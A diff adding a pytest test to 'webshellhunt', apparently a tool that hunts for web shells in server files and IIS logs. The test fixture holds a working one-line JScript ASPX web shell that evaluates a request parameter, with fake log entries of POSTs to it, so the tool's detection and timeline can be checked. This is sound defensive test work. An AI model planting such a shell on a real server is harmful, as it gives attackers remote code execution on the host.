@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 
 import webshellhunt as wsh
+from tests.builders.logs import row, text_log
 from webshellhunt.sources.memory import MemorySource
 
 
@@ -118,3 +120,21 @@ def test_the_face_is_lazy_and_whole() -> None:
     assert done.stdout.splitlines() == ["False", "True []"]
     with pytest.raises(AttributeError, match="has no attribute 'hunts'"):
         wsh.hunts  # noqa: B018
+
+
+def test_the_logs_are_chosen_and_their_results_read_by_public_names() -> None:
+    shell = b'<\x25@ Page Language="Jscript"\x25><\x25eval(Request.Item["k"],"unsafe");\x25>'
+    rows = [row(f"2021-03-0{day} 04:05:06", "/aspnet_client/x.aspx", method="POST") for day in (3, 4)]
+    files = {
+        "inetpub/wwwroot/aspnet_client/x.aspx": shell,
+        "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": text_log(wsh.LogKind.IIS, *rows),
+    }
+    period = wsh.Period(since=datetime(2021, 3, 4, tzinfo=UTC))
+    report = wsh.hunt(MemorySource(files), job=wsh.Job(logs=wsh.LogOptions(period=period)))
+    assert isinstance(report.traffic, wsh.Traffic)
+    (client,) = report.traffic.clients
+    assert isinstance(client, wsh.Client)
+    (use,) = (verdict.use for verdict in report.verdicts if verdict.use is not None)
+    assert isinstance(use, wsh.Use)
+    assert use.requests == 1
+    assert all(isinstance(moment, wsh.Moment) for moment in report.timeline)
